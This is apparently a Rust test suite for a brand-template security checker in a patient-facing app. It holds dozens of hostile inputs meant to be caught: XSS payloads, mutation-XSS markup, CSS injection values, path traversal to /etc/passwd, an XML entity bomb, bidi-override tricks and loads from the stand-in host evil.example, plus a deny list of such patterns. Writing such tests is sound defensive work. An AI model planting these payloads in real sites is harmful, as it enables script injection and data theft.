//! Brands that mean harm: what the checker says of them, and what a browser would get all the same if nobody asked it.

use std::sync::Arc;

use patient_connect::{
    brands::{Files, Look, check},
    copy::Catalogue,
    domain::brand::MAX_WEIGHT,
};

use super::{files, shots_in};

const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 9 9\">";

/// A logo with this inside.
fn logo(inner: &str) -> Files {
    let text = format!("{SVG}{inner}<rect width=\"9\" height=\"9\"/></svg>");
    named("[logo]\nlight = \"logo.svg\"\n", "logo.svg", text.as_bytes())
}

/// A brand whose `brand.toml` goes on like this, with one more file.
fn named(toml: &str, file: &str, bytes: &[u8]) -> Files {
    let mut brand = files(&[]);
    brand.0.insert("brand.toml".to_owned(), format!("contract = 1\n{toml}").into_bytes());
    brand.0.insert(file.to_owned(), bytes.to_vec());
    brand
}

fn footer(html: &str) -> Files {
    files(&[("slots/footer.html", html)])
}

fn shell(html: &str) -> Files {
    files(&[("shell.html", html)])
}

fn words(text: &str) -> Files {
    files(&[("words.en.ftl", text)])
}

fn toml(text: &str) -> Files {
    named(text, "unused.txt", b"")
}

/// In markup.
fn slots() -> Vec<(Files, &'static str)> {
    let all = [
        ("<script>evil()</script>", "markup-element"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "markup-element"),
        ("<p onclick=\"evil()\">x</p>", "markup-attribute"),
        ("<p/onclick=evil()>x</p>", "markup-attribute"),
        ("<img src=x onerror=evil() alt=\"\">", "markup-attribute"),
        ("<a href=\"javascript:evil()\">x</a>", "markup-address"),
        ("<a href=\"java\nscript:evil()\">x</a>", "markup-address"),
        ("<a href=\"&#106;avascript:evil()\">x</a>", "markup-address"),
        ("<a href=\"data:text/html,<script>evil()</script>\">x</a>", "markup-address"),
        ("<a href=\"blob:https://evil.example/x\">x</a>", "markup-address"),
        ("<a href=\"vbscript:evil\">x</a>", "markup-address"),
        ("<a href=\"/sign-out\">x</a>", "markup-address"),
        ("<a href=\"//evil.example\">x</a>", "markup-address"),
        ("<img src=\"https://evil.example/a.png\" alt=\"\">", "slot-picture"),
        ("<img src=\"data:image/png;base64,AAAA\" alt=\"\">", "slot-picture"),
        ("<img src=\"../../etc/passwd\" alt=\"\">", "slot-picture"),
        ("<img src=\"/_demo/mail.json\" alt=\"\">", "slot-picture"),
        ("<img srcset=\"https://evil.example/a.png 1x\" alt=\"\">", "markup-attribute"),
        ("<style>@import 'https://evil.example/a.css';</style>", "markup-element"),
        ("<p style=\"background:image-set('https://evil.example/a' 1x)\">x</p>", "markup-attribute"),
        ("<p class=\"unseen\" id=\"main\">x</p>", "markup-attribute"),
        ("<link rel=stylesheet href=https://evil.example/a.css>", "markup-element"),
        ("<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "markup-element"),
        ("<base href=\"https://evil.example/\">", "markup-element"),
        ("<iframe src=\"https://evil.example\"></iframe>", "markup-element"),
        ("<form action=\"https://evil.example\"><input name=answer></form>", "markup-element"),
        ("<svg><script>evil()</script></svg>", "markup-element"),
        ("<math><mtext><table><mglyph><style><img src=x onerror=evil()>", "markup-element"),
        ("</div></footer></main><h1>Error</h1>", "markup-element"),
        ("<!--><img src=x onerror=evil()>-->", "markup-attribute"),
        ("<!-- --!><img src=x onerror=evil()>-->", "markup-attribute"),
        ("<p title=\"--><script>evil()</script>\">x</p>", "markup-attribute"),
        ("<template><script>evil()</script></template>", "markup-element"),
        ("<details><summary>x</summary>", "markup-nesting"),
    ];
    all.map(|(html, code)| (footer(html), code)).into()
}

/// Around our page.
fn shells() -> Vec<(Files, &'static str)> {
    let all = [
        ("<details><summary>x</summary>{{head}}{{content}}</details>", "shell-hides"),
        ("<div hidden>{{head}}{{content}}</div>", "shell-hides"),
        ("<div style=\"display:none\">{{head}}{{content}}</div>", "shell-hides"),
        ("<div aria-hidden=\"true\">{{head}}{{content}}</div>", "shell-hides"),
        ("<div inert>{{head}}{{content}}</div>", "shell-hides"),
        ("<!-- {{head}} {{content}} -->", "shell-inside"),
        ("<textarea>{{head}}{{content}}</textarea>", "shell-inside"),
        ("<script>{{head}}{{content}}</script>", "shell-inside"),
        ("<a href=\"https://evil.example/{{content}}\">x</a>{{head}}", "shell-inside"),
        ("{{head}}", "shell-places"),
        ("{{head}}{{content}}{{content}}", "shell-places"),
        ("<main><h1>Log in</h1></main>{{head}}{{content}}", "shell-main"),
        ("{{head}}{{content}}<script src=https://evil.example/x.js></script>", "markup-element"),
        ("<plaintext>{{head}}{{content}}", "shell-inside"),
        ("<table><tr>{{head}}{{content}}</tr></table>", "shell-inside"),
        ("<select><option>{{head}}{{content}}", "shell-inside"),
    ];
    all.map(|(html, code)| (shell(html), code)).into()
}

/// In words and values.
fn texts() -> Vec<(Files, &'static str)> {
    let in_words = [
        ("code-heading = </h1></main><script>evil()</script>", "words-markup"),
        ("success-heading = { $app }</bdi><img src=x onerror=evil()>", "words-markup"),
        ("code-heading = {\"\\u003Cscript\\u003Eevil()\"}", "words-reference"),
        ("code-heading = { -term }\n-term = <script>", "words-reference"),
        ("locked-what = \u{200b}\u{200b}", "words-blank"),
        ("success-heading = You are connected", "words-variable"),
        ("code-heading = { $evil }", "words-variable"),
        ("brand-through = from evil.example", "words-kept"),
        ("language-dir = rtl\"><script>evil()</script>", "words-kept"),
        ("code-heading = a\u{202e}b", "words-hidden"),
    ];
    let in_values = [
        ("name = \"\\u202Eevil\"\n", "toml-value"),
        ("[links]\nprivacy = \"javascript:evil()\"\n", "link-address"),
        ("[links]\nimprint = \"https://user:pass@evil.example\"\n", "link-address"),
        ("[light]\naccent = \"red;}*{display:none}\"\n", "toml-value"),
        ("[light]\nink = \"url(https://evil.example)\"\n", "toml-value"),
        ("[type]\nfamily = \"x; src: url(https://evil.example)\"\n", "toml-value"),
        ("[shape]\nradius = \"1px;}\"\n", "toml-value"),
        ("[light]\nink = \"#ffffff\"\nsurface = \"#ffffff\"\n", "contrast"),
        ("[logo]\nlight = \"/etc/passwd\"\n", "file-path"),
        ("[logo]\nlight = \"..\\\\..\\\\evil.svg\"\n", "file-path"),
        ("favicon = \"https://evil.example/a.svg\"\n", "file-path"),
    ];
    let in_words = in_words.into_iter().map(|(text, code)| (words(text), code));
    in_words.chain(in_values.into_iter().map(|(text, code)| (toml(text), code))).collect()
}

/// In pictures and fonts.
fn pictures() -> Vec<(Files, &'static str)> {
    let many = "<g/>".repeat(20_000);
    let million = "<g>".repeat(40_000);
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend([0, 1, 0, 0, 0, 1, 0, 0, 8, 2, 0, 0, 0, 0, 0, 0, 0]);
    let mut font = b"wOF2\0\x01\0\0\0\0\0\x40\0\x01\0\0\xff\xff\xff\xff".to_vec();
    font.resize(64, 0);
    let entities = "<!DOCTYPE svg [<!ENTITY a \"evil\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>";
    let html = "<!doctype html><script>evil()</script>";
    let logo_of = |file, bytes: &[u8]| named(&format!("[logo]\nlight = \"{file}\"\n"), file, bytes);
    vec![
        (logo("<script>evil()</script>"), "svg-active"),
        (logo("<rect width=\"1\" height=\"1\" onload=\"evil()\"/>"), "svg-active"),
        (
            logo("<foreignObject><p xmlns=\"http://www.w3.org/1999/xhtml\">evil</p></foreignObject>"),
            "svg-active",
        ),
        (logo("<image href=\"https://evil.example/a.png\"/>"), "svg-picture"),
        (logo("<image xlink:href=\"file:///etc/passwd\"/>"), "svg-picture"),
        (logo("<text>evil</text>"), "svg-text"),
        (logo(&many), "svg-large"),
        (logo(&million), "svg-large"),
        (logo_of("logo.svg", format!("{entities}{SVG}<g/></svg>").as_bytes()), "svg-entities"),
        (logo_of("logo.svg", html.as_bytes()), "svg-broken"),
        (logo_of("logo.png", html.as_bytes()), "file-kind"),
        (logo_of("logo.png", &png), "picture-size"),
        (logo_of("logo.png", &vec![0; MAX_WEIGHT + 1]), "weight"),
        (named("[type]\nfont = \"own.woff2\"\n", "own.woff2", &font), "font-kind"),
        (named("[type]\nfont = \"own.woff2\"\n", "own.woff2", &vec![0; 70_000]), "weight"),
    ]
}

/// What no page and no file of a brand may hold.
const SIGNS: [&str; 16] = [
    "evil",
    "javascript:",
    "vbscript:",
    "data:",
    "blob:",
    "onerror",
    "onclick",
    "onload",
    "<iframe",
    "<form action=\"http",
    "<style",
    "@import",
    "image-set",
    "passwd",
    "<base",
    "\u{202e}",
];

#[test]
fn each_is_named_by_the_check_and_changes_nothing_that_a_browser_runs_loads_or_hides() {
    let all: Vec<_> = [slots(), shells(), texts(), pictures()].concat();
    assert!(all.len() >= 60, "{}", all.len());
    let catalogue = Catalogue::load();
    for (number, (files, code)) in all.iter().enumerate() {
        let checked = check(files, "1");
        let codes: Vec<&str> = checked.findings.iter().map(|finding| finding.code.as_str()).collect();
        assert!(codes.contains(code), "case {number}: {code} in {codes:?}");
        assert!(checked.errors() > 0 || *code == "svg-active", "case {number}: {codes:?} is refused");
        let look = Arc::new(Look::of("1", files, &catalogue));
        let shots = shots_in(&catalogue, catalogue.default(), &look);
        for page in ["code", "question", "locked", "success"] {
            let html = &shots.iter().find(|shot| shot.page == page).unwrap().html;
            is_unharmed(html, &format!("case {number} on {page}"));
        }
        for address in look.addresses() {
            let served = look.file(address).unwrap();
            let text = String::from_utf8_lossy(&served.bytes).to_lowercase();
            for sign in SIGNS {
                assert!(!text.contains(sign), "case {number}: {sign} in {address}: {text}");
            }
        }
    }
}

#[track_caller]
fn is_unharmed(html: &str, place: &str) {
    let lower = html.to_lowercase();
    for sign in SIGNS {
        assert!(!lower.contains(sign), "{place}: {sign} in {html}");
    }
    for (part, times) in [
        ("<script src=\"/static/", 1),
        ("<script", 1),
        ("<h1", 1),
        ("<main", 1),
        ("</main>", 1),
        ("</body>", 1),
        ("action=\"/language\"", 1),
        (" hidden", 0),
        (" inert", 0),
        ("<textarea", 0),
        ("<select", 0),
        ("<!-- ", 0),
        ("</bdi></bdi>", 0),
    ] {
        assert_eq!(lower.matches(part).count(), times, "{place}: {part} in {html}");
    }
    // Nothing of a brand is open around our page.
    let before = &lower[..lower.find("<main").unwrap()];
    for element in ["details", "template", "table", "p", "a"] {
        let opened =
            before.matches(&format!("<{element}>")).count() + before.matches(&format!("<{element} ")).count();
        assert_eq!(opened, before.matches(&format!("</{element}>")).count(), "{place}: <{element}> is open");
    }
}
